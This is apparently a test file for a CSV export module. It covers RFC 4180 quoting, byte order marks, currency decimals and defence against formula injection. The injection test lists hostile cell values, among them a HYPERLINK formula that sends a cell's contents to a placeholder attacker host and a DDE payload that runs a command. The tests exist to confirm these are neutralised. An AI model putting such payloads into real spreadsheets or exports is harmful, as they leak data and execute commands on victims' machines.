import { describe, expect, test } from 'bun:test'
import { byteOrderMark, csvLine, decimal } from './csv'

describe('a line of a file', () => {
  test('is as RFC 4180 has it', () => {
    expect(csvLine(['a', 'b,c', 'say "x"', 'two\r\nlines', '', 7, -1.5])).toBe(
      'a,"b,c","say ""x""","two\r\nlines",,7,-1.5\r\n',
    )
    expect(csvLine(['Zoë 🤖 مرحبا'])).toBe('Zoë 🤖 مرحبا\r\n')
    expect(Buffer.from(byteOrderMark)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]))
  })

  test.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1+1',
    '\u{a0}=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "=cmd|'/c calc'!A1",
    'DDE\n=1',
  ])('holds no formula: %j', (text) => {
    const cell = csvLine([text]).replace(/^"|"\r\n$|\r\n$/g, '')
    // Within a quoted cell a second line is text to every spreadsheet.
    expect(cell.startsWith("'") || cell.startsWith('DDE')).toBe(true)
    expect(cell.replace(/^'/, '').replaceAll('""', '"')).toBe(text)
  })

  test('leaves other text alone', () => {
    for (const text of ["O'Neil", '1=1', 'a@b', 'Anne-Marie', '']) {
      expect(csvLine([text])).toBe(`${text}\r\n`)
    }
  })

  test('has money as plain numbers', () => {
    expect([decimal(5, 'USD'), decimal(123_450, 'USD'), decimal(1_500, 'JPY')]).toEqual([
      '0.05',
      '1234.50',
      '1500',
    ])
    expect(decimal(1, 'KWD')).toBe('0.001')
  })
})
